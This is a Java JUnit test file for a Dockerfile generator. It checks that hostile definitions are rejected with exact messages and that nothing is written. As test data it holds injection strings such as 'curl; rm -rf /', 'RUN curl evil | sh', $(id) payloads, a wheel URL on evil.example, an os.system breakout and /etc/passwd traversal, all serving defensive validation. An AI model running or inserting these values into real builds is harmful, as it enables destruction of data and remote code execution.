package io.github.nuniesmith.fks.images.generator;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.github.nuniesmith.fks.images.dsl.DefinitionException;
import io.github.nuniesmith.fks.images.dsl.Image;
import io.github.nuniesmith.fks.images.dsl.SourceBuild;
import io.github.nuniesmith.fks.images.dsl.Stage;
import io.github.nuniesmith.fks.images.dsl.blocks.Hierarchy;
import io.github.nuniesmith.fks.images.dsl.blocks.HierarchyDefinition;
import io.github.nuniesmith.fks.images.dsl.blocks.Service;
import io.github.nuniesmith.fks.images.dsl.blocks.Strategy;
import io.github.nuniesmith.fks.images.dsl.blocks.Tier;
import io.github.nuniesmith.fks.images.dsl.blocks.TierRole;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Map;
import java.util.TreeMap;
import java.util.function.Consumer;
import java.util.stream.Stream;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * Hostile definitions, run the way the generate goal runs them (build the set, render, write with
 * OutputSync) into a folder that already holds the committed generated files: each is refused with
 * its exact message, and the folder is byte-for-byte what it was. Were one accepted, the write would
 * replace those files, since they carry this generator's header.
 */
class HostileDefinitionTest {
  private static final Generator GENERATOR = new Generator("src/main/java", "./mvnw -Pgenerate");
  private static final Path COMMITTED = Path.of("../generated");
  private static final String PYTHON = "python:3.12-slim-trixie";
  private static final String SHA = "9ff41efcb1c011a4b4b6dfc91610b06e39b1d7973ed5d4dee55029a0ac4dc651";

  @TempDir Path out;

  @BeforeEach
  void fillWithTheCommittedFiles() throws IOException {
    for (Map.Entry<String, byte[]> file : snapshot(COMMITTED).entrySet()) {
      Path target = out.resolve(file.getKey());
      Files.createDirectories(target.getParent());
      Files.write(target, file.getValue());
    }
  }

  @ParameterizedTest(name = "{0}")
  @MethodSource("hostile")
  void isRefusedAndNothingIsWritten(String input, HierarchyDefinition definition, String message) throws IOException {
    Map<String, String> before = bytes(out);
    assertThat(before).hasSizeGreaterThan(10);

    assertThatThrownBy(() -> new OutputSync(out, GENERATOR.owner()).write(GENERATOR.render(definition.imageSet(Strategy.OPTION_1)), false))
        .isInstanceOf(DefinitionException.class)
        .hasMessage(message);
    assertThat(bytes(out)).isEqualTo(before);
  }

  @Test
  void quotesBackticksAndBackslashesInAnEnvValueStayInsideItsQuotes() {
    String dockerfile = GENERATOR.render(Image.builder("app", "app/Dockerfile", HostileDefinitionTest.class)
        .stage("app", s -> s.from(PYTHON).env("MODE", "a\" B=\"b `id` \\")).build()).content();

    assertThat(dockerfile).contains("ENV MODE=\"a\\\" B=\\\"b `id` \\\\\"\n");
  }

  static Stream<Arguments> hostile() {
    return Stream.of(
        // Shell metacharacters and newlines in every string that reaches a Dockerfile.
        of("apt package with ;", tier(t -> t.buildPackages("curl; rm -rf /")),
            "tier cpu / build packages: apt package 'curl; rm -rf /' is invalid: use a Debian package name (lowercase letters, digits, + . -) with an optional =version"),
        of("apt package with a newline", tier(t -> t.runtimePackages("curl\nRUN curl evil | sh")),
            "tier cpu / runtime packages: apt package 'curl\\nRUN curl evil | sh' contains a control character (newline, tab, ...): remove it"),
        of("apt version with &&", tier(t -> t.buildPackages("curl=7.88.1&&id")),
            "tier cpu / build packages: apt package 'curl=7.88.1&&id' is invalid: use a Debian package name (lowercase letters, digits, + . -) with an optional =version"),
        of("pip requirement with &&", tier(t -> t.pip("langchain>=0.3.0 && rm -rf /")),
            "tier cpu / pip install: pip requirement 'langchain>=0.3.0 && rm -rf /' contains the shell metacharacter '&': write one PEP 508 requirement such as 'langchain>=0.3.0' [FKS005]"),
        of("pip requirement with $(...)", tier(t -> t.pip("requests$(id)")),
            "tier cpu / pip install: pip requirement 'requests$(id)' contains the shell metacharacter '$': write one PEP 508 requirement such as 'langchain>=0.3.0' [FKS005]"),
        of("pip requirement with a backtick", tier(t -> t.pip("requests`id`")),
            "tier cpu / pip install: pip requirement 'requests`id`' contains the shell metacharacter '`': write one PEP 508 requirement such as 'langchain>=0.3.0' [FKS005]"),
        of("pip version with a pipe", tier(t -> t.pip("numpy==1.26.4|tee /x")),
            "tier cpu / pip install: pip requirement 'numpy==1.26.4|tee /x' contains the shell metacharacter '|': write one PEP 508 requirement such as 'langchain>=0.3.0' [FKS005]"),
        of("pip requirement with a newline", tier(t -> t.pip("numpy==1.26.4\nRUN id")),
            "tier cpu / pip install: pip requirement 'numpy==1.26.4\\nRUN id' contains a control character (newline, tab, ...): remove it [FKS005]"),
        of("pip URL requirement", tier(t -> t.pip("torch @ https://evil.example/torch.whl")),
            "tier cpu / pip install: pip requirement 'torch @ https://evil.example/torch.whl' is a URL requirement: name the package and choose its index with PackageIndex [FKS005]"),
        of("env value with a newline", image(s -> s.env("MODE", "prod\nRUN curl evil | sh")),
            "image app / stage app / env MODE: env MODE 'prod\\nRUN curl evil | sh' contains a control character (newline, tab, ...): remove it"),
        of("env value with $(...)", image(s -> s.env("MODE", "$(id)")),
            "image app / stage app / env MODE: env MODE value '$(id)' has a $ that starts no variable reference: write $NAME,"
                + " ${NAME}, ${NAME:-default} or ${NAME:+alternative}"),
        of("platform with a second flag", image(s -> s.platform("linux/amd64 --network=host")),
            "image app / stage app / from: platform 'linux/amd64 --network=host' is invalid: use os/arch[/variant] such as linux/arm64, or a variable such as $BUILDPLATFORM"),
        of("from reference with AS", image(s -> s.from("${BASE} AS evil")),
            "image app / stage app / from: from reference '${BASE} AS evil' is invalid: use an image reference or stage name with $NAME or ${NAME...} references"),
        of("legacy env value with a newline", image(s -> s.envLegacy("MODE", "a\nRUN id")),
            "image app / stage app / env MODE: env MODE 'a\\nRUN id' contains a control character (newline, tab, ...): remove it"),
        of("env value referring to an undeclared variable", image(s -> s.env("MODE", "${UNSET}")),
            "image app / stage app / env MODE: refers to ${UNSET}, which this stage does not declare before this step: declare it with arg(\"UNSET\") or env(\"UNSET\", value) before this step, or, if the parent image sets it, name it with parentEnv(\"UNSET\")"),
        of("env name with ;", image(s -> s.env("PATH;id", "x")),
            "image app / stage app / env PATH;id: env name 'PATH;id' is invalid: use letters, digits and _, not starting with a digit"),
        of("label value with a newline", tier(t -> t.label("org.opencontainers.image.title", "fks\nUSER root")),
            "tier cpu / label org.opencontainers.image.title: label org.opencontainers.image.title 'fks\\nUSER root' contains a control character (newline, tab, ...): remove it"),
        of("label value with $", tier(t -> t.label("org.opencontainers.image.title", "${HOME}")),
            "tier cpu / label org.opencontainers.image.title: label org.opencontainers.image.title value '${HOME}' contains $: labels of tiers and services are literal"),
        of("service label with a control character", service(s -> s.label("org.opencontainers.image.title", "fks\u0007")),
            "service api: label org.opencontainers.image.title 'fks\\u0007' contains a control character (newline, tab, ...): remove it"),
        of("workdir with a newline", image(s -> s.workdir("/app\nRUN id")),
            "image app / stage app / workdir: workdir '/app\\nRUN id' contains a control character (newline, tab, ...): remove it"),
        of("maintainer ending in the escape character", image(s -> s.maintainer("me \\")),
            "image app / stage app / maintainer: MAINTAINER line 'me \\' ends with the escape character \\, which would join the next line to it: remove it"),
        of("copy destination with a newline", image(s -> s.copy("src", "/app/\nRUN id")),
            "image app / stage app / copy 'src': copy destination '/app/\\nRUN id' contains a control character (newline, tab, ...): remove it"),
        of("service command with a newline", service(s -> s.command("python", "-m\nRUN id")),
            "service api / command: cmd argument '-m\\nRUN id' contains a control character (newline, tab, ...): remove it"),
        of("shell step running on after a newline", image(s -> s.shell("why", "echo a\nRUN id")),
            "image app / stage app / shell step: shell command 'echo a\\nRUN id' contains a control character (newline, tab, ...): remove it"),
        of("shell step ending in a backslash", image(s -> s.shell("why", "echo a \\")),
            "image app / stage app / shell step: shell command 'echo a \\' ends in a backslash, which would join the next Dockerfile instruction to it: remove the backslash"),
        of("shell step without a reason", image(s -> s.shell(" ", "echo a")),
            "image app / stage app / shell step: reason of the shell step (say why no typed step fits) is empty: give a value"),
        of("healthcheck path breaking out of its Python string", service(s -> s.healthcheckPath("/h');import os;os.system('id')#")),
            "service api / healthcheck: healthcheck path '/h');import os;os.system('id')#' is invalid: use an absolute URL path such as /health"),
        of("arg default with $(...)", image(s -> s.arg("MODE", "$(id)")),
            "image app / stage app / arg MODE: arg MODE default '$(id)' has a $ that starts no variable reference: write"
                + " $NAME, ${NAME}, ${NAME:-default} or ${NAME:+alternative}"),
        of("source build URL with a query", tier(t -> t.sourceBuild(SourceBuild.tarball("lib", "1.0").url("https://example.org/lib.tar.gz?x=$(id)").sha256(SHA).build())),
            "source build 'lib': source URL 'https://example.org/lib.tar.gz?x=$(id)' is invalid: use an https URL of a .tar.gz, .tgz, .tar.xz or .tar.bz2 file, without query or spaces"),
        of("source build configure argument with ;", tier(t -> t.sourceBuild(SourceBuild.tarball("lib", "1.0").url("https://example.org/lib-1.0.tar.gz").sha256(SHA).configure("--with-x=1;id").build())),
            "source build 'lib': configure argument '--with-x=1;id' is invalid: use --option or --option=value with letters, digits and . _ / + -"),
        of("source build version with a space", tier(t -> t.sourceBuild(SourceBuild.tarball("lib", "1.0 ; id").url("https://example.org/lib-1.0.tar.gz").sha256(SHA).build())),
            "source build 'lib': source build version '1.0 ; id' is invalid: use a version such as 0.4.0"),
        of("tier version with ;", set(s -> s.tier(Tier.root(TierRole.CPU, "cpu", HostileDefinitionTest.class).python("3.12", PYTHON).publishAs("fks/base:cpu", "1.0.0;id").build())),
            "tier cpu: version '1.0.0;id' is not semver: write major.minor.patch such as 1.0.0"),
        // Control characters.
        of("tier label with NUL", tier(t -> t.label("org.opencontainers.image.description", "a\u0000b")),
            "tier cpu / label org.opencontainers.image.description: label org.opencontainers.image.description 'a\\u0000b' contains a control character (newline, tab, ...): remove it"),
        of("env value with a Unicode line separator", image(s -> s.env("MODE", "a\u2028b")),
            "image app / stage app / env MODE: env MODE 'a\\u2028b' contains a control character (newline, tab, ...): remove it"),
        of("service requirements with a tab", service(s -> s.requirements("req\t.txt")),
            "service api / requirements: relative path 'req\\t.txt' contains a control character (newline, tab, ...): remove it"),
        // Overlong names.
        of("service name of 41 characters", set(s -> s.tier(root()).service(Service.builder("a".repeat(41), root(), HostileDefinitionTest.class).port(8000).command("python").build())),
            "service name 'aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa' is invalid: use up to 40 lowercase letters, digits and -, starting with a letter; it becomes a folder name"),
        of("stage name of 64 characters", set(s -> s.image(Image.builder("app", "app/Dockerfile", HostileDefinitionTest.class).stage("s".repeat(64), st -> st.from(PYTHON)).build())),
            "image app: stage name 'ssssssssssssssssssssssssssssssssssssssssssssssssssssssssssssssss' is invalid: use up to 63 lowercase letters, digits and _ . -, starting with a letter [FKS014]"),
        of("Dockerfile path with a name of 101 characters", set(s -> s.image(Image.builder("app", "app/" + "d".repeat(101), HostileDefinitionTest.class).stage("app", st -> st.from(PYTHON)).build())),
            "image app: dockerfile path 'app/ddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddd' has a name of 101 characters: use at most 100 per folder or file name"),
        of("image tag of 129 characters", image(s -> s.from("python:" + "3".repeat(129))),
            "image app / stage app / from: image reference 'python:333333333333333333333333333333333333333333333333333333333333333333333333333333333333333333333333333333333333333333333333333333333': tag '333333333333333333333333333333333333333333333333333333333333333333333333333333333333333333333333333333333333333333333333333333333' is invalid: use up to 128 letters, digits and _ . - not starting with . or - (write it as [registry/][namespace/]name[:tag][@sha256:<64 hex>])"),
        // Path traversal.
        of("service name with ..", set(s -> s.tier(root()).service(Service.builder("../etc", root(), HostileDefinitionTest.class).port(8000).command("python").build())),
            "service name '../etc' is invalid: use up to 40 lowercase letters, digits and -, starting with a letter; it becomes a folder name"),
        of("service source leaving the context", service(s -> s.source("../../etc/passwd")),
            "service api / source: relative path '../../etc/passwd' contains . or .. segments, which could leave its folder: remove them"),
        of("service source that is absolute", service(s -> s.source("/etc/passwd")),
            "service api / source: relative path '/etc/passwd' is absolute: write it relative to its folder"),
        of("copy source with .. segments", image(s -> s.copy("src/../../secret", "/app/")),
            "image app / stage app / copy 'src/../../secret': copy source 'src/../../secret' has a .. segment, which would leave the build context: name a path inside it"),
        of("label key with =", image(s -> s.label("a=b", "c")),
            "image app / stage app / label a=b: label key 'a=b' is invalid: use text without = or $"),
        of("image Dockerfile outside the output folder", set(s -> s.image(Image.builder("app", "../outside/Dockerfile", HostileDefinitionTest.class).stage("app", st -> st.from(PYTHON)).build())),
            "image app / dockerfile: relative path '../outside/Dockerfile' contains . or .. segments, which could leave its folder: remove them"),
        of("tier Dockerfile at an absolute path", set(s -> s.tier(Tier.root(TierRole.CPU, "cpu", HostileDefinitionTest.class).dockerfile("/etc/Dockerfile").python("3.12", PYTHON).publishAs("fks/base:cpu", "1.0.0").build())),
            "tier cpu / dockerfile: relative path '/etc/Dockerfile' is absolute: write it relative to its folder"),
        // Duplicate and conflicting pins and names.
        of("apt package listed twice", tier(t -> t.buildPackages("curl", "git", "curl")),
            "tier cpu / build packages: apt package 'curl' is listed twice: remove one"),
        of("pip package named twice in one install", tier(t -> t.pip("numpy==1.26.4", "NumPy==2.0.0")),
            "tier cpu / pip install: pip requirement 'NumPy' names a package already listed in this install: keep one"),
        of("pip pin conflicting with the tier below", set(s -> s.tier(root(t -> t.pip("numpy==1.26.4"))).tier(ml(root(t -> t.pip("numpy==1.26.4")), t -> t.pip("numpy==2.0.0")))),
            "tier ml / pip 'numpy': pins 'numpy==2.0.0', but tier cpu below it pins 'numpy==1.26.4': pin the package in one tier only"),
        of("two services of one name", set(s -> s.tier(root()).service(svc("api", 8000)).service(svc("api", 8001))),
            "service api: is defined twice, or has the name of a tier or image: give each service its own name"),
        of("Dockerfile paths that differ only in case", set(s -> s.image(Image.builder("one", "app/Dockerfile", HostileDefinitionTest.class).stage("app", st -> st.from(PYTHON)).build()).image(Image.builder("two", "App/Dockerfile", HostileDefinitionTest.class).stage("app", st -> st.from(PYTHON)).build())),
            "image two: writes App/Dockerfile and image one writes app/Dockerfile: paths that differ only in case are one file on macOS and Windows, rename one"),
        of("Dockerfile path that is another's folder", set(s -> s.tier(root()).service(svc("api", 8000)).image(Image.builder("app", "services/api", HostileDefinitionTest.class).stage("app", st -> st.from(PYTHON)).build())),
            "image api: writes services/api/Dockerfile and image app writes services/api: one would need to be a file and a folder at once, rename one"),
        of("Dockerfile path that names a folder", set(s -> s.image(Image.builder("app", "app/", HostileDefinitionTest.class).stage("app", st -> st.from(PYTHON)).build())),
            "image app: dockerfile path 'app/' ends in /: name the file, such as app/Dockerfile"),
        of("service label the generator sets", service(s -> s.label("org.opencontainers.image.base.name", "evil/base:1")),
            "service api: label 'org.opencontainers.image.base.name' is set by the generator from the service's name and tier: remove it"),
        of("tier label the generator sets", tier(t -> t.label("org.opencontainers.image.version", "9.9.9")),
            "tier cpu: label 'org.opencontainers.image.version' is set by the generator from the tier's tag, version and parent: remove it"),
        of("two images writing one Dockerfile", set(s -> s.image(Image.builder("one", "app/Dockerfile", HostileDefinitionTest.class).stage("app", st -> st.from(PYTHON)).build()).image(Image.builder("two", "app/Dockerfile", HostileDefinitionTest.class).stage("app", st -> st.from(PYTHON)).build())),
            "image two: writes app/Dockerfile, as image one does: give each image its own Dockerfile"),
        // Unknown stages and parents, cycles.
        of("copy from an unknown stage", image(s -> s.copyFrom("nosuch", "/opt/x", "/opt/x")),
            "image app / stage app / copy '/opt/x': refers to stage 'nosuch', which is not an earlier stage of this image: define it above [FKS014]"),
        of("stage from a later stage", set(s -> s.image(Image.builder("app", "app/Dockerfile", HostileDefinitionTest.class).stage("first", st -> st.from(new io.github.nuniesmith.fks.images.dsl.From.Previous("second"))).stage("second", st -> st.from(PYTHON)).build())),
            "image app / stage first: starts from stage 'second', which is not an earlier stage of this image: define it above [FKS014]"),
        of("service on a tier outside the set", set(s -> s.tier(root()).service(svc("api", 8000, ml(root(), t -> { })))),
            "service api: builds on tier 'ml', which is not in this image set: add it with tier(...)"),
        of("images built on each other's tags", set(s -> s.image(Image.builder("one", "one/Dockerfile", HostileDefinitionTest.class).stage("app", st -> st.from("fks/two:app")).publish("app", "fks/one:app", "1.0.0").build()).image(Image.builder("two", "two/Dockerfile", HostileDefinitionTest.class).stage("app", st -> st.from("fks/one:app-v1.0.0")).publish("app", "fks/two:app", "1.0.0").build())),
            "image one / stage app: starts from 'fks/two:app', which image 'two' of this set publishes: build on it with from(image, \"app\"), so that the workflow, the bake file and rebuild plans see the edge"),
        // Wrong-case instruction-like strings.
        of("stage name FROM", set(s -> s.image(Image.builder("app", "app/Dockerfile", HostileDefinitionTest.class).stage("FROM", st -> st.from(PYTHON)).build())),
            "image app: stage name 'FROM' is invalid: use up to 63 lowercase letters, digits and _ . -, starting with a letter [FKS014]"),
        of("stage name scratch", set(s -> s.image(Image.builder("app", "app/Dockerfile", HostileDefinitionTest.class).stage("scratch", st -> st.from(PYTHON)).build())),
            "image app: stage name 'scratch' is reserved by BuildKit: choose another [FKS014]"),
        of("apt package in capitals", tier(t -> t.buildPackages("CURL")),
            "tier cpu / build packages: apt package 'CURL' is invalid: use a Debian package name (lowercase letters, digits, + . -) with an optional =version"),
        of("shell-form command Docker would read as exec form", image(s -> s.cmdShell("[\"sh\", \"-c\", \"id\"]")),
            "image app / stage app / cmd: command '[\"sh\", \"-c\", \"id\"]' starts with [, which Docker reads as exec form: use exec form, or start with the program"),
        of("parent image in capitals", image(s -> s.from("Python:3.12")),
            "image app / stage app / from: image reference 'Python:3.12': image name 'Python' is invalid: use lowercase letters, digits and . _ - (write it as [registry/][namespace/]name[:tag][@sha256:<64 hex>])"),
        of("user named root", service(s -> s.user("root")),
            "service api / user: user 'root' is not numeric: write uid:gid such as 10001:10001, names may not resolve"),
        of("user 0", service(s -> s.user("0:0")),
            "service api / user: user id 0 is root: a service runs as the non-root user it creates, such as 10001:10001"),
        // Empty lists where something is required.
        of("apt install of nothing", image(s -> s.apt()),
            "image app / stage app / apt install: apt packages is empty: give at least one"),
        of("pip install of nothing", tier(t -> t.pip()),
            "tier cpu / pip install: pip install has nothing to install: give requirements or a requirements file"),
        of("service command of nothing", service(s -> s.command()),
            "service api / command: cmd is empty: give at least one"),
        of("image without stages", set(s -> s.image(Image.builder("app", "app/Dockerfile", HostileDefinitionTest.class).build())),
            "image app: stages is empty: give at least one"),
        of("env of no variables", image(s -> s.env(Map.of())),
            "image app / stage app / env: env is empty: give at least one variable"));
  }

  private static Arguments of(String input, HierarchyDefinition definition, String message) {
    return Arguments.of(input, definition, message);
  }

  private static HierarchyDefinition set(Consumer<Hierarchy.Builder> body) {
    return strategy -> {
      Hierarchy.Builder set = Hierarchy.builder(strategy);
      body.accept(set);
      return set.build();
    };
  }

  /** A set of one root tier, changed by {@code body}, and one service on it. */
  private static HierarchyDefinition tier(Consumer<Tier.Builder> body) {
    return set(s -> {
      Tier root = root(body);
      s.tier(root).service(svc("api", 8000, root));
    });
  }

  /** A set of one root tier and one service, changed by {@code body}. */
  private static HierarchyDefinition service(Consumer<Service.Builder> body) {
    return set(s -> {
      Tier root = root();
      Service.Builder service = Service.builder("api", root, HostileDefinitionTest.class).port(8000).command("python", "-m", "app");
      body.accept(service);
      s.tier(root).service(service.build());
    });
  }

  /** A set of one image of one stage, changed by {@code body}. */
  private static HierarchyDefinition image(Consumer<Stage.Builder> body) {
    return set(s -> s.image(Image.builder("app", "app/Dockerfile", HostileDefinitionTest.class)
        .stage("app", st -> {
          st.from(PYTHON);
          body.accept(st);
        }).build()));
  }

  private static Tier root() {
    return root(t -> { });
  }

  private static Tier root(Consumer<Tier.Builder> body) {
    Tier.Builder b = Tier.root(TierRole.CPU, "cpu", HostileDefinitionTest.class).python("3.12", PYTHON)
        .publishAs("fks/base:cpu", "1.0.0");
    body.accept(b);
    return b.build();
  }

  private static Tier ml(Tier parent, Consumer<Tier.Builder> body) {
    Tier.Builder b = Tier.on(parent, TierRole.ML, "ml", HostileDefinitionTest.class).publishAs("fks/base:ml", "1.0.0");
    body.accept(b);
    return b.build();
  }

  private static Service svc(String name, int port) {
    return svc(name, port, root());
  }

  private static Service svc(String name, int port, Tier tier) {
    return Service.builder(name, tier, HostileDefinitionTest.class).port(port).command("python", "-m", "app").build();
  }

  private static Map<String, byte[]> snapshot(Path root) throws IOException {
    Map<String, byte[]> files = new TreeMap<>();
    try (Stream<Path> walk = Files.walk(root)) {
      for (Path p : walk.filter(Files::isRegularFile).toList()) {
        files.put(root.relativize(p).toString().replace('\\', '/'), Files.readAllBytes(p));
      }
    }
    return files;
  }

  /** Every file's bytes, comparable with equals. */
  private static Map<String, String> bytes(Path root) throws IOException {
    Map<String, String> out = new TreeMap<>();
    snapshot(root).forEach((path, content) -> out.put(path, new String(content, StandardCharsets.ISO_8859_1)));
    return out;
  }
}
